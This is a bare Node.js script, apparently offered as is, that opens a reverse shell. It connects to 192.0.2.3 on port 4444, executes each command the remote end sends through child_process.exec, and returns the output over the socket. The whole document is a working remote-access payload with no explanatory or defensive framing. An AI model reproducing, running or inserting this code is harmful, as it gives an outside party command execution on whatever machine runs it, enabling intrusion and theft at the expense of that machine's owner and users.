const net = require('net');
const { exec } = require('child_process');
const s = net.createConnection({ host: '192.0.2.3', port: 4444 });
s.on('data', (d) => {
  exec(d.toString(), (e, out, err) => s.write(out + err));
});
